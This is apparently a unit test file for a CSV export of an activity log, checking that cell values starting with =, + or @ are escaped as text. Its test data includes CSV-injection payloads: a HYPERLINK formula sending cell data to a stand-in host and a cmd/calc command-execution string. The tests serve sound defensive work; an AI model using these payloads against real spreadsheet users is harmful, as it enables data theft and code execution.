import type { ActivityEntry } from '../../../contract/entities';
import { activityCsv } from './activityCsv';

function entry(overrides: Partial<ActivityEntry>): ActivityEntry {
  return {
    id: 1,
    created_at: '2026-11-22T12:00:00.000Z',
    actor_id: 2,
    actor_role: 'admin',
    actor_name: 'Rosa Vera',
    entity: 'driver',
    entity_id: 5,
    entity_label: 'Juan Pérez',
    action: 'updated',
    changes: { phone: { before: '+56 9 1111 1111', after: '+56 9 2222 2222' } },
    ip: '127.0.0.1',
    ...overrides,
  };
}

/** The Persona cell of the first data row. */
const personCell = (csv: string) => csv.split('\r\n')[1].split(';')[1];

describe('activityCsv with formula payloads (CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
  ])('writes a desk user named %s in Persona as text', (name, cell) => {
    expect(personCell(activityCsv([entry({ actor_name: name })]))).toBe(cell);
  });

  it('leaves a formula-like text inside a cell as it is: only the first character of a cell starts a formula', () => {
    const csv = activityCsv([entry({ action: 'created', entity_label: '@SUM(1+1)', changes: { first_name: { before: null, after: '=1+1' } } })]);
    const cells = csv.split('\r\n')[1].split(';');
    expect(cells[3]).toBe('Creó conductor @SUM(1+1)');
    expect(cells[4]).toBe('Nombre: =1+1');
  });

  it('keeps an ordinary name unchanged', () => {
    expect(personCell(activityCsv([entry({})]))).toBe('Rosa Vera');
  });
});
